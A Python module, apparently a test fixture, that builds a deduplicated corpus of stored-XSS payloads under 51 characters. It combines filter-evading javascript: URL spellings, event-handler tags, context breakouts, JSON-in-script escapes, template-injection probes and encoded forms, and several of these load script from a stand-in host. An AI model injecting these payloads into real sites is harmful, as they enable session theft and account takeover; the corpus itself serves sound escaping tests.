"""A corpus of stored-XSS payloads, built from vectors, encodings and contexts.

Each payload is at most MAX_LENGTH characters, so that two of them, each with
its marker, fit the shortest field they go into (an article's 120-character
dateline). `PAYLOADS` holds them in a fixed order, without duplicates.
"""

from itertools import product

MAX_LENGTH = 51

# What a payload runs when it gets through; none of them may ever run.
SCRIPTS = ("alert(1)", "alert`1`", "confirm(1)", "top['al'+'ert'](1)", "import('//e.st')")

# Ways of spelling a script URL so that a naive check misses it.
SCRIPT_URLS = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "JAVASCRIPT:{js}",
    " javascript:{js}",
    "\tjavascript:{js}",
    "\x01javascript:{js}",
    "jav\tascript:{js}",
    "jav\nascript:{js}",
    "jav\rascript:{js}",
    "java\x0bscript:{js}",
    "jav&#x09;ascript:{js}",
    "jav&#9;ascript:{js}",
    "jav&Tab;ascript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript:{js}",
    "&#0000106avascript:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "java&NewLine;script:{js}",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:text/html,<svg onload={js}>",
    "data:image/svg+xml,<svg onload={js}>",
    " data:text/html,x",
)

# Elements that take a URL, the first FULLY_SPELLED with every script URL.
FULLY_SPELLED = 3
URL_ELEMENTS = (
    '<a href="{url}">x</a>',
    "<a href={url}>x</a>",
    "<iframe src='{url}'>",
    '<embed src="{url}">',
    '<object data="{url}">',
    '<form action="{url}"><button>x',
    '<button formaction="{url}">x',
    '<base href="{url}">',
    '<math href="{url}">x</math>',
    '<svg><a xlink:href="{url}">x</a>',
    '<video poster="{url}">',
    '<img src="{url}">',
    '<link rel=stylesheet href="{url}">',
)

# Elements with an event handler: each gets every script.
HANDLER_ELEMENTS = (
    "<img src=x onerror={js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}>",
    "<style onload={js}></style>",
    "<marquee onstart={js}>",
    "<x onclick={js}>click",
    "<a onmouseover={js}>x</a>",
)

# Ways out of the context a value is placed in.
BREAKOUTS = (
    '">',
    "'>",
    ">",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "-->",
    "]]>",
    '"/>',
    "</option></select>",
)
AFTER_BREAKOUT = (
    "<svg onload={js}>",
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
)

# Attribute injections without any tag: the value must stay inside its quotes.
ATTRIBUTE_INJECTIONS = (
    '" onmouseover="{js}',
    "' onmouseover='{js}",
    '" autofocus onfocus="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    '"onfocus={js} autofocus "',
    '" style="x:expression({js})',
    '" href="javascript:{js}',
    '" src="javascript:{js}',
)

# Script elements and ways of hiding them from a naive filter.
SCRIPT_ELEMENTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script >{js}</script >",
    "<script\n>{js}</script>",
    "<scr<script>ipt>{js}</script>",
    "<script src=//e.st/x.js></script>",
    "<script/src=data:,{js}></script>",
    "<<script>{js}//<</script>",
    "<script>{js}</script",
    "<iframe srcdoc='<script>{js}</script>'>",
    '<iframe srcdoc="<svg onload={js}>">',
    "<template><script>{js}</script>",
    '<noscript><i title="</noscript><svg onload={js}>',
)

# Breaking out of JSON inside a <script> (JSON-LD, json_script).
JSON_BREAKOUTS = (
    '"}</script><script>{js}</script>',
    "</script><script>{js}//",
    "\\u003c/script\\u003e<svg onload={js}>",
    '\\"}];{js};//',
    "'-{js}-'",
    '"-{js}-"',
    "\u2028{js}\u2029",
    "</ScRiPt ><svg onload={js}>",
)

# Everything else: CSS, templates, markdown, unicode and encoded forms.
OTHERS = (
    '<div style="width:expression({js})">',
    "<div style=\"background:url('javascript:{js}')\">",
    "<style>*{x:expression({js})}</style>",
    "<style>@import 'javascript:{js}';</style>",
    '<p style="behavior:url(x.htc)">',
    "<meta http-equiv=refresh content=0;url=//e.st>",
    "<META HTTP-EQUIV=refresh CONTENT=0;javascript:1>",
    "<meta http-equiv=refresh content=0;data:,x>",
    '<meta http-equiv="refresh" content="0;{js}">',
    "<link rel=import href=//e.st/x>",
    "<isindex type=image src=1 onerror={js}>",
    "{{7*7}}",
    "{% debug %}",
    "{{ request.META }}",
    "${{js}}",
    "#{{js}}",
    "{{constructor.constructor('{js}')()}}",
    "[x](javascript:{js})",
    '[x](https://e.st "onmouseover={js}")',
    '![x](x"onerror="{js})',
    '<https://e.st/"onmouseover="{js}>',
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&amp;lt;svg onload={js}&amp;gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "%253Cscript%253E{js}",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u202e<svg onload={js}>",
    "<svg\u000conload={js}>",
    "<svg\u2000onload={js}>",
    "<img src=x\u00a0onerror={js}>",
    "\x0c<script>{js}</script>",
    "<!--<script>-->{js}<!--</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><svg onload={js}>",
    "<xss id=x tabindex=1 onfocusin={js}>",
)


def _fill(template: str, js: str = "", url: str = "") -> str:
    return template.replace("{url}", url).replace("{js}", js)


def _generate():
    # Each family's order is fixed, so markers name the same payload in every run.
    yield from (_fill(url, js) for url, js in product(SCRIPT_URLS, SCRIPTS[:2]))
    # Links and frames get every spelling; the other elements every other one.
    yield from (
        _fill(element, url=_fill(url, SCRIPTS[0]))
        for (e, element), (u, url) in product(enumerate(URL_ELEMENTS), enumerate(SCRIPT_URLS))
        if e < FULLY_SPELLED or (e + u) % 2 == 0
    )
    yield from (_fill(element, js) for element, js in product(HANDLER_ELEMENTS, SCRIPTS))
    yield from (
        _fill(breakout + after, js)
        for breakout, after, js in product(BREAKOUTS, AFTER_BREAKOUT, SCRIPTS[:2])
    )
    yield from (_fill(inject, js) for inject, js in product(ATTRIBUTE_INJECTIONS, SCRIPTS))
    yield from (_fill(element, js) for element, js in product(SCRIPT_ELEMENTS, SCRIPTS))
    yield from (_fill(breakout, js) for breakout, js in product(JSON_BREAKOUTS, SCRIPTS[:3]))
    yield from (_fill(other, js) for other, js in product(OTHERS, SCRIPTS[:2]))


def _corpus() -> tuple[str, ...]:
    seen = {}
    for payload in _generate():
        if len(payload) <= MAX_LENGTH:
            seen.setdefault(payload, None)
    return tuple(seen)


PAYLOADS = _corpus()
